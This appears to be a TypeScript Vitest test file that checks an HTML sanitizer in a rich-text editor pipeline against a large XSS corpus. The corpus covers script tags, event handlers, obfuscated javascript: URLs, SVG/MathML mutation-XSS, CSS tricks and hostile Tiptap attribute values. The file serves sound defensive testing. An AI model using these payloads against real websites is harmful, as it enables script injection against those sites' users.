// XSS corpus: whatever goes in, the saved HTML parses (as a browser would) to allowlisted, non-executable markup only.
import { type DefaultTreeAdapterTypes, parseFragment } from 'parse5';
import { describe, expect, it } from 'vitest';
import { ContentError, normalizeContent, type TiptapNode } from './pipeline';
import { ALLOWED_ATTRIBUTES, ALLOWED_TAGS } from './sanitize';

type ParentNode = DefaultTreeAdapterTypes.ParentNode;
type Element = DefaultTreeAdapterTypes.Element;

const js = 'alert(1)';
const tags = ['h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'p', 'br', 'strong', 'em', 's', 'code', 'ul', 'ol', 'li'];
const moreTags = ['blockquote', 'pre', 'hr', 'a', 'img', 'table', 'tr', 'th', 'td', 'span', 'div', 'iframe'];

const HTML_PAYLOADS: string[] = [
  // Script elements in every shape.
  `<script>${js}</script>`,
  `<SCRIPT SRC=https://evil.test/x.js></SCRIPT>`,
  `<p>a<script>${js}</script>b</p>`,
  `<scr<script>ipt>${js}</scr</script>ipt>`,
  `<<script>script>${js}<</script>/script>`,
  `<script/xss src="https://evil.test/x.js"></script>`,
  `<p><script type="module">${js}</script></p>`,
  // An event handler on every allowed tag.
  ...[...tags, ...moreTags].map((tag) => `<${tag} onclick="${js}" onmouseover=${js}>x</${tag}>`),
  `<img src="https://e.test/a.png" onerror="${js}">`,
  `<img src=x onerror=${js}>`,
  `<p/onload=${js}>x</p>`,
  `<p ONCLICK="${js}">x</p>`,
  `<div data-youtube-video onfocus=${js} autofocus tabindex=0><iframe src="https://www.youtube.com/embed/x" onload=${js}></iframe></div>`,
  // javascript:/vbscript:/data: URLs, obfuscated.
  `<a href="javascript:${js}">x</a>`,
  `<a href="JaVaScRiPt:${js}">x</a>`,
  `<a href=" javascript:${js}">x</a>`,
  `<a href="java\tscript:${js}">x</a>`,
  `<a href="java\nscript:${js}">x</a>`,
  `<a href="java\u0000script:${js}">x</a>`,
  `<a href="\u0001javascript:${js}">x</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${js}">x</a>`,
  `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${js}">x</a>`,
  `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${js}">x</a>`,
  `<a href="javascript&colon;${js}">x</a>`,
  `<a href="jav&#x09;ascript:${js}">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="VBScript:msgbox(1)">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="DATA:text/html,<script>${js}</script>">x</a>`,
  `<a href="//evil.test/x">x</a>`,
  `<img src="javascript:${js}">`,
  `<img src="JAVASCRIPT:${js}">`,
  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `<img src="vbscript:msgbox(1)">`,
  `<img src=" &#14; javascript:${js}">`,
  `<iframe src="javascript:${js}"></iframe>`,
  `<iframe src="data:text/html,<script>${js}</script>"></iframe>`,
  `<iframe srcdoc="<script>${js}</script>"></iframe>`,
  `<iframe src="https://evil.test/" srcdoc="&lt;script&gt;${js}&lt;/script&gt;" sandbox="allow-scripts allow-same-origin allow-top-navigation"></iframe>`,
  `<div data-youtube-video><iframe src="https://evil.test/embed/x"></iframe></div>`,
  `<div data-youtube-video><iframe src="javascript:${js}"></iframe></div>`,
  `<div data-youtube-video><iframe src="https://www.youtube.com.evil.test/embed/x"></iframe></div>`,
  // SVG and MathML.
  `<svg onload=${js}>`,
  `<svg><script>${js}</script></svg>`,
  `<svg><a xlink:href="javascript:${js}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
  `<svg><style><img src=x onerror=${js}></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${js}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${js}">x</math>`,
  `<svg><foreignObject><p onclick=${js}>x</p></foreignObject></svg>`,
  // CSS.
  `<span style="color: expression(${js})">x</span>`,
  `<span style="color: url(javascript:${js})">x</span>`,
  `<span style="color:red;background-image:url(https://evil.test/t.png)">x</span>`,
  `<span style="color: rgb(1,2,3) /* */; behavior: url(x.htc)">x</span>`,
  `<p style="text-align:center;position:fixed;top:0">x</p>`,
  `<style>body{background:url(javascript:${js})}</style>`,
  `<link rel="stylesheet" href="https://evil.test/x.css">`,
  // Page-level elements.
  `<meta http-equiv="refresh" content="0;url=javascript:${js}">`,
  `<base href="https://evil.test/">`,
  `<form action="https://evil.test/"><input name="p" type="password"><button formaction="javascript:${js}">go</button></form>`,
  `<input autofocus onfocus=${js}>`,
  `<textarea autofocus onfocus=${js}></textarea>`,
  `<select onfocus=${js} autofocus><option>x</option></select>`,
  `<object data="javascript:${js}"></object>`,
  `<embed src="javascript:${js}">`,
  `<applet code="x"></applet>`,
  `<frameset><frame src="javascript:${js}"></frameset>`,
  `<video><source onerror=${js}></video>`,
  `<audio src=x onerror=${js}>`,
  `<details open ontoggle=${js}>`,
  `<marquee onstart=${js}>x</marquee>`,
  `<body onload=${js}>`,
  `<template><img src=x onerror=${js}></template>`,
  // Nested, malformed and mutation-XSS classics.
  `<noscript><p title="</noscript><img src=x onerror=${js}>"></noscript>`,
  `<p title="</p><img src=x onerror=${js}>">x</p>`,
  `<a href="https://e.test/" title="&quot;><img src=x onerror=${js}>">x</a>`,
  `<img src="https://e.test/a.png"alt=""onerror=${js}>`,
  `<img """><script>${js}</script>">`,
  `<p <img src=x onerror=${js}>>`,
  `<!--<img src="--><img src=x onerror=${js}//">`,
  `<![CDATA[<img src=x onerror=${js}>]]>`,
  `<xmp><img src=x onerror=${js}></xmp>`,
  `<listing>&lt;img src=x onerror=${js}&gt;</listing>`,
  `<table><td><svg><style><img src=x onerror=${js}></style></svg></td></table>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${js}>`,
  `<a href="https://e.test"><a href="javascript:${js}">nested</a></a>`,
  `<pre><code class="language-js&quot; onmouseover=&quot;${js}">x</code></pre>`,
  `<code class="x language-js"><img src=x onerror=${js}></code>`,
  `<p><iframe src="https://e.test/" width="1 onload=${js}" height='"><script>${js}</script>'></iframe></p>`,
];

/** Tiptap JSON built to reach the renderer with hostile attribute values. */
const JSON_PAYLOADS: Record<string, unknown>[] = [
  para({ type: 'text', text: 'x', marks: [{ type: 'link', attrs: { href: `javascript:${js}` } }] }),
  para({ type: 'text', text: 'x', marks: [{ type: 'link', attrs: { href: `\u0000javascript:${js}` } }] }),
  para({
    type: 'text',
    text: 'x',
    marks: [{ type: 'link', attrs: { href: 'https://e.test', target: '_blank' } }],
  }),
  para({
    type: 'text',
    text: 'x',
    marks: [{ type: 'textStyle', attrs: { color: `red;background:url(x)` } }],
  }),
  para({ type: 'text', text: `<script>${js}</script><img src=x onerror=${js}>` }),
  doc({ type: 'image', attrs: { src: `javascript:${js}` } }),
  doc({ type: 'image', attrs: { src: 'https://e.test/a.png" onerror="alert(1)' } }),
  doc({ type: 'youtube', attrs: { src: 'https://evil.test/embed/x' } }),
  doc({ type: 'youtube', attrs: { src: `javascript:${js}//youtube.com/embed/x` } }),
  doc({ type: 'iframe', attrs: { src: `javascript:${js}` } }),
  doc({ type: 'iframe', attrs: { src: 'https://e.test/', width: '"><script>alert(1)</script>' } }),
  doc({
    type: 'codeBlock',
    attrs: { language: `js" onclick="${js}` },
    content: [{ type: 'text', text: 'x' }],
  }),
  doc({
    type: 'heading',
    attrs: { level: '1><script>alert(1)</script' },
    content: [{ type: 'text', text: 'h' }],
  }),
  doc({
    type: 'paragraph',
    attrs: { textAlign: 'center;background:url(x)' },
    content: [{ type: 'text', text: 'p' }],
  }),
  doc({ type: 'script', content: [{ type: 'text', text: js }] }),
];

function doc(...content: Record<string, unknown>[]): Record<string, unknown> {
  return { type: 'doc', content };
}
function para(...content: Record<string, unknown>[]): Record<string, unknown> {
  return doc({ type: 'paragraph', content });
}

/** Every attribute value stored in a document (text is data, attributes end up in markup). */
function storedAttributes(node: TiptapNode): unknown[] {
  return [
    ...Object.values(node.attrs ?? {}),
    ...(node.marks ?? []).flatMap((mark) => Object.values(mark.attrs ?? {})),
    ...(node.content ?? []).flatMap(storedAttributes),
  ];
}

const URL_ATTRIBUTES = new Set(['href', 'src']);
// A browser ignores these inside a scheme, so they must not hide one from this check either.
// biome-ignore lint/suspicious/noControlCharactersInRegex: matching control characters is the point.
const IGNORED = /[\u0000-\u0020\u007f-\u009f]/g;
const STYLE_DECLARATION = /^(?:text-align:(?:center|right|justify)|color:[#\w(),.%/ +-]+)$/;

/** Every problem found in the HTML as a browser would build it. */
function violations(html: string): string[] {
  const found: string[] = [];
  if (/<script/i.test(html)) found.push('contains <script');
  // Quoted attribute values are data (`"` inside them is escaped), so look for handlers outside them.
  if (/<[^>]*\son\w+\s*=/i.test(html.replace(/"[^"]*"/g, '""'))) found.push('contains an on*= attribute');
  const walk = (parent: ParentNode) => {
    for (const child of parent.childNodes) {
      if (!('tagName' in child)) continue;
      const element = child as Element;
      if (element.namespaceURI !== 'http://www.w3.org/1999/xhtml')
        found.push(`foreign element <${element.tagName}>`);
      if (!ALLOWED_TAGS.includes(element.tagName)) found.push(`tag <${element.tagName}>`);
      const allowed = ALLOWED_ATTRIBUTES[element.tagName] ?? [];
      for (const { name, value } of element.attrs) {
        if (!allowed.includes(name)) found.push(`attribute ${name} on <${element.tagName}>`);
        if (/^on/i.test(name)) found.push(`event handler ${name}`);
        const bare = value.replace(IGNORED, '').toLowerCase();
        if (URL_ATTRIBUTES.has(name) && /^(?:javascript|vbscript|data):/.test(bare))
          found.push(`${name}=${value}`);
        if (name === 'style' && !STYLE_DECLARATION.test(value.replace(/;$/, '')))
          found.push(`style=${value}`);
        if (name === 'class' && !/^language-[\w+#.-]+$/.test(value)) found.push(`class=${value}`);
        if (element.tagName === 'iframe' && name === 'src' && !value.startsWith('https://'))
          found.push(`iframe ${value}`);
      }
      if (element.tagName === 'iframe') {
        const sandbox = element.attrs.find((attr) => attr.name === 'sandbox');
        if (!sandbox) found.push('iframe without sandbox');
        else if (/allow-top-navigation|allow-forms|allow-modals/.test(sandbox.value))
          found.push(`sandbox ${sandbox.value}`);
      }
      walk(element);
      if (element.tagName === 'template') walk((element as DefaultTreeAdapterTypes.Template).content);
    }
  };
  walk(parseFragment(html));
  return found;
}

describe('XSS corpus', () => {
  it('has at least 60 HTML payloads', () => {
    expect(HTML_PAYLOADS.length).toBeGreaterThanOrEqual(60);
  });

  it('flags executable markup (the checker itself can fail)', () => {
    expect(violations(`<p onclick="${js}">x</p>`)).not.toEqual([]);
    expect(violations('<a href="java&#x09;script:x">x</a>')).not.toEqual([]);
    expect(violations('<svg><p>x</p></svg>')).not.toEqual([]);
    expect(violations('<iframe src="https://e.test/"></iframe>')).toEqual(['iframe without sandbox']);
    expect(violations('<span style="color:red;background:url(x)">x</span>')).not.toEqual([]);
    expect(violations('<p style="text-align:center">x <a href="/a">a</a></p>')).toEqual([]);
  });

  it.each(HTML_PAYLOADS.map((payload) => [payload]))('neutralizes HTML %s', (payload) => {
    const first = normalizeContent(payload, { iframeHosts: ['e.test'] });
    expect(violations(first.html)).toEqual([]);
    // Saving the output again must be stable: no second pass can uncover anything (mutation XSS).
    const second = normalizeContent(first.html, { iframeHosts: ['e.test'] });
    expect(second.html).toBe(first.html);
    expect(second.json).toEqual(first.json);
  });

  it.each(JSON_PAYLOADS.map((payload) => [JSON.stringify(payload), payload]))(
    'neutralizes JSON %s',
    (text, payload) => {
      // Text PostgreSQL cannot store is refused outright, which neutralizes it too.
      if (text.includes('\\u0000')) {
        expect(() => normalizeContent(payload, {})).toThrow(ContentError);
        return;
      }
      const { html, json } = normalizeContent(payload, {});
      expect(violations(html)).toEqual([]);
      for (const value of storedAttributes(json)) {
        expect(String(value)).not.toMatch(/javascript:|url\(|\son\w+=|[<>"]/i);
      }
    },
  );
});
